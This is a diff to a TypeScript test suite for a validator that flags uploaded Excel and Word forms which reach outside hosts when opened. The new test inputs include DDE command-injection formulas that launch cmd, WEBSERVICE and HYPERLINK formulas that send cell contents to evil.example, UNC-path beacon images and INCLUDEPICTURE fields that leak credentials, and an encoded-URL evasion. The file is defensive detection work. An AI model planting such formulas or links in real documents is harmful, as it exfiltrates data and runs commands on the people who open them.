@@ -341,16 +341,35 @@ describe('a workbook that asks somebody outside when it is opened', () => {
   const formula = (text: string): string =>
     told('様式.xlsx', anXlsx({ sheets: [{ rows: row(1, `<c r="A1"><f>${text}</f></c>`) }] })).code;
 
-  test.each(['_xlfn.WEBSERVICE("http://x/?"&amp;B1)', 'IF(B1="","",_xlfn.IMAGE(B1))', 'RTD("a",,B1)'])('%s', (text) => {
+  test.each([
+    '_xlfn.WEBSERVICE("http://x/?"&amp;B1)',
+    'IF(B1="","",_xlfn.IMAGE(B1))',
+    'RTD("a",,B1)',
+    '_xlfn._xlws.PY(0,1,B1)',
+    '_xlfn.TRANSLATE(B1)',
+    'STOCKHISTORY(B1)',
+    'SQL.REQUEST("DSN=x",,,B1)',
+    "cmd|'/C calc'!A0",
+    '-cmd|x!A0',
+    'HYPERLINK("https://evil.example/?"&amp;B1,"市のページ")',
+    'IF(B1=1,HYPERLINK(CONCATENATE("mailto:x@evil.example?body=",B1),"送る"),"")',
+    'hyperlink ( "\\\\evil.example\\"&amp;B1 )',
+  ])('%s', (text) => {
     expect(formula(text)).toBe('form/reaches-out');
   });
 
-  test.each(['HYPERLINK(B1,"市のページ")', 'SUM(B1:B9)', 'B1&amp;"WEBSERVICE(x)"', 'MYIMAGE(B1)'])(
-    '%s does not',
-    (text) => {
-      expect(formula(text)).toBe('ok');
-    },
-  );
+  test.each([
+    'HYPERLINK(B1,"市のページ")',
+    'HYPERLINK("https://www.city.example.jp/?a=1,2","市のページ")',
+    'HYPERLINK("#\'"&amp;B1&amp;"\'!A1","次の表")',
+    "SUM('表|1'!A1)",
+    '"はい|いいえ"',
+    'SUM(B1:B9)',
+    'B1&amp;"WEBSERVICE(x)"',
+    'MYIMAGE(B1)',
+  ])('%s does not', (text) => {
+    expect(formula(text)).toBe('ok');
+  });
 
   test('by a name, or by DDE', () => {
     expect(told('様式.xlsx', anXlsx({ names: { 外: 'WEBSERVICE(様式1!$A$1)' } })).code).toBe('form/reaches-out');
@@ -358,6 +377,63 @@ describe('a workbook that asks somebody outside when it is opened', () => {
       content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
     });
     expect(told('様式.xlsx', anXlsx({ records: [dde] })).code).toBe('form/reaches-out');
+  });
+
+  test('by DDE under any name, and by a column of a table', () => {
+    const dde = part('xl/x.xml', {
+      content: '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd"/></x:externalLink>',
+    });
+    const workbookRels: [string, string, string][] = [['rId9', 'externalLink', 'x.xml']];
+    expect(told('様式.xlsx', anXlsx({ records: [dde], workbookRels })).code).toBe('form/reaches-out');
+    const table = part('xl/t.xml', {
+      content: '<table><calculatedColumnFormula>_xlfn.WEBSERVICE([url])</calculatedColumnFormula></table>',
+    });
+    const sheets = [{ rels: [['rId1', 'table', '../t.xml']] as [string, string, string][] }];
+    expect(told('様式.xlsx', anXlsx({ records: [table], sheets })).code).toBe('form/reaches-out');
+  });
+
+  test.each(['connections', 'queryTable', 'powerPivotData', 'webextensiontaskpanes'])('by its %s', (type) => {
+    const { code, message } = told('様式.xlsx', anXlsx({ workbookRels: [['rId9', type, 'x.xml']] }));
+    expect(code).toBe('form/reaches-out');
+    expect(message).toMatch(/データの接続|データモデル|アドイン/);
+  });
+
+  test.each([
+    ['image', 'http://evil.example/beacon.png'],
+    ['image', 'file:///\\\\evil.example\\share\\x.png'],
+    ['externalLinkPath', 'https://evil.example/a.xlsx'],
+    ['oleObject', 'file://evil.example/share/a.doc'],
+    ['pivotCacheDefinition', 'https://evil.example/'],
+  ])('by a link of its own: %s to %s', (type, target) => {
+    const { code, message } = told('様式.xlsx', anXlsx({ workbookRels: [['rId9', type, target]] }));
+    expect(code).toBe('excel/outside-content');
+    expect(message).toContain('evil.example');
+  });
+
+  test('not by a link to a workbook in the author’s house, or to click', () => {
+    for (const [type, target] of [
+      ['externalLinkPath', 'file:///C:\\Users\\shi\\台帳.xlsx'],
+      ['externalLinkPath', 'file:///\\\\SV01\\様式\\台帳.xlsx'],
+      ['hyperlink', 'https://www.city.example.jp/'],
+    ] as const)
+      expect(told('様式.xlsx', anXlsx({ workbookRels: [['rId9', type, target]] })).code, target).toBe('ok');
+  });
+
+  test('nor do old drawings, but where their picture lies on the internet', () => {
+    const drawn = (source: string) =>
+      told(
+        '様式.xlsx',
+        anXlsx({
+          records: [
+            part('xl/drawings/d.vml', {
+              content: `<xml><v:shape xmlns:v="v"><v:imagedata src="${source}"/></v:shape></xml>`,
+            }),
+          ],
+        }),
+      ).code;
+    expect(drawn('http://evil.example/beacon.png')).toBe('excel/outside-content');
+    expect(drawn('&#104;ttp://evil.example/beacon.png')).toBe('excel/outside-content');
+    expect(drawn('media/image1.png')).toBe('ok');
   });
 });
 
@@ -379,6 +455,12 @@ describe('a Word form with a field that asks another program', () => {
     [' DD', 'E', 'AUTO cmd x'],
     ['dde Excel a b'],
     ['INCLUDETEXT "http://x/a.docx"'],
+    ['INCLUDEPICTURE "http://evil.example/beacon.png" \\d'],
+    ['INCLUDEPICTURE \\\\\\\\evil.example\\\\share\\\\x.png'],
+    [' IN', 'CLUDEPICTURE "', 'https://evil.example/x.png"'],
+    ['LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" "Sheet1!R1C1"'],
+    ['RD "https://evil.example/a.docx"'],
+    ['DATABASE \\d "C:\\\\a.mdb" \\s "SELECT * FROM a"'],
   ])('%s%s is told', (...instruction) => {
     expect(field(...instruction)).toBe('form/reaches-out');
   });
@@ -386,6 +468,25 @@ describe('a Word form with a field that asks another program', () => {
   test('any other is taken', () => {
     expect(field(' PAGE \\* MERGEFORMAT ')).toBe('ok');
     expect(field(' HYPERLINK "http://x/DDE x" ')).toBe('ok');
+    expect(field('INCLUDEPICTURE "C:\\\\Users\\\\shi\\\\logo.png" \\d')).toBe('ok');
+    expect(field('LINK Excel.Sheet.12 "C:\\\\a.xlsx"')).toBe('ok');
+  });
+
+  test('nor one that a left-over list of addresses asks, but of one on the internet', () => {
+    const merged = (connection: string): string =>
+      told(
+        '様式.docx',
+        aDocx({
+          records: [
+            part('word/settings.xml', {
+              content: `<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="${connection}"/></w:mailMerge></w:settings>`,
+            }),
+          ],
+        }),
+      ).code;
+    expect(merged('Provider=SQLOLEDB;Data Source=\\\\evil.example\\a')).toBe('form/reaches-out');
+    expect(merged('Data Source=https://evil.example/a.xlsx;')).toBe('form/reaches-out');
+    expect(merged('Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\Users\\shi\\a.xlsx')).toBe('ok');
   });
 });
 
@@ -498,6 +599,13 @@ describe('what leads out of a file', () => {
     ['frame', 'http://example.jp/a.html', 'example.jp'],
     ['subDocument', 'ftp://example.jp/a.docx', 'example.jp'],
     ['oleObject', 'https://example.jp/a.xlsx', 'example.jp'],
+    ['image', 'http://evil.example/beacon.png', 'evil.example'],
+    ['image', 'file:///\\\\evil.example\\share\\x.png', 'evil.example'],
+    ['image', '\\\\evil.example@SSL\\share\\x.png', 'evil.example'],
+    ['image', '\\\\3405803781\\share\\x.png', '3405803781'],
+    ['video', 'https://example.jp/a.mp4', 'example.jp'],
+    ['mailMergeSource', 'https://example.jp/a.csv', 'example.jp'],
+    ['aKindOfTomorrow', 'https://example.jp/a', 'example.jp'],
   ])('is refused where Word reads it on opening: %s from %s', (type, target, host) => {
     const { code, message } = opening(type, target);
     expect(code).toBe('word/outside-content');
@@ -510,7 +618,8 @@ describe('what leads out of a file', () => {
     ['attachedTemplate', '\\\\SV01\\様式\\公文書.dotx'],
     ['attachedTemplate', 'Normal.dotm'],
     ['hyperlink', 'https://www.city.example.jp/'],
-    ['image', 'https://www.city.example.jp/logo.png'],
+    ['image', 'file:///C:\\Users\\shi\\logo.png'],
+    ['image', '\\\\SV01\\様式\\logo.png'],
   ])('is nothing where it lies in the author’s house, or waits for a click: %s %s', (type, target) => {
     expect(opening(type, target).code).toBe('ok');
   });
